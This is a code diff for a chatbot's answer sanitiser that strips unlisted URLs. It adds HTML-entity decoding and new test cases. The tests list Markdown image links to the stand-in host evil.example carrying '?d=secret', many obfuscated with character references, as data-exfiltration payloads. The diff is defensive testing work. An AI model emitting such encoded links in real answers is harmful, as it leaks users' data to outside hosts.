@@ -4,6 +4,7 @@
 //! in its path or query. Addresses are found by form, not by markup: whatever draws them, Markdown
 //! or HTML, needs them whole.
 
+use super::references::uncoded;
 use clawdbot_domain::{Channel, Event, sha256_hex};
 
 /// An answer whose unlisted addresses were taken out.
@@ -30,6 +31,21 @@ pub fn neutralise(text: &str, allowed: &[String]) -> Neutral {
 /// The same for what stands from `from` on; what stands before it was shown already and tells where
 /// markup expects an address.
 pub(super) fn neutralise_after(text: &str, from: usize, allowed: &[String]) -> Neutral {
+    let (before, after) = (text.get(..from), text.get(from..));
+    if let (Some(before), Some(after)) = (before, after)
+        && let Some(plain) = uncoded(after)
+    {
+        // Markdown and HTML read character references in an address as what they stand for.
+        let from = before.len();
+        let neutral = neutralise_plain(&format!("{before}{plain}"), from, allowed);
+        if !neutral.removed.is_empty() {
+            return neutral;
+        }
+    }
+    neutralise_plain(text, from, allowed)
+}
+
+fn neutralise_plain(text: &str, from: usize, allowed: &[String]) -> Neutral {
     let mut out = String::with_capacity(text.len());
     let mut removed = Vec::new();
     let mut from = from;
@@ -84,8 +100,22 @@ pub fn hosts_in(text: &str) -> Vec<String> {
     hosts
 }
 
+/// False when no address begins in a text: none of the signs of one is there.
+pub(super) fn may_hold_address(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    memchr::memchr3(b'/', b'\\', b'&', bytes).is_some()
+        || bytes
+            .windows(2)
+            .any(|pair| pair.eq_ignore_ascii_case(b"ww"))
+}
+
 /// Where an address begins that reaches to the end of a text, and may go on.
 pub(super) fn open_address(text: &str, from: usize) -> Option<usize> {
+    let word = text.rfind(char::is_whitespace).map_or(0, |at| at + 1);
+    if text.get(word.max(from)..).is_some_and(|w| w.contains('&')) {
+        // What its references stand for is read when it is whole.
+        return Some(word.max(from));
+    }
     let mut from = from;
     while let Some(found) = next_address(text, from) {
         if found.end == text.len() {
@@ -245,6 +275,10 @@ mod tests {
             "https://good.example:x@evil.example:443/p?d=secret",
             "https:\\\\evil.example\\p?d=secret",
             "![x](https&#58;//evil.example/p?d=secret)",
+            "![x](https:&#47;&#47;evil.example/p?d=secret)",
+            "![x](https&colon;&sol;&#x2F;evil&period;example&sol;p?d=secret)",
+            "![x](https:&#0047&#47evil.example/p?d=secret)",
+            "![x](https:\\/\\/evil.example/p?d=secret)",
             "ftp://evil.example/p?d=secret",
             "https:////evil.example/p?d=secret",
             "://://evil.example/p?d=secret",
@@ -275,6 +309,7 @@ mod tests {
             "[manual](https://www.docs.example/en) and https://a.docs.example",
             "// a comment.rs\nlet x = a // b;",
             "case 1: //fall through",
+            "a &amp; b &#47; c &lt;i&gt; &",
             "1 / 2 // 3",
             "C:\\Users\\me and \\\\server",
             "mail me at www-admin@good.example",
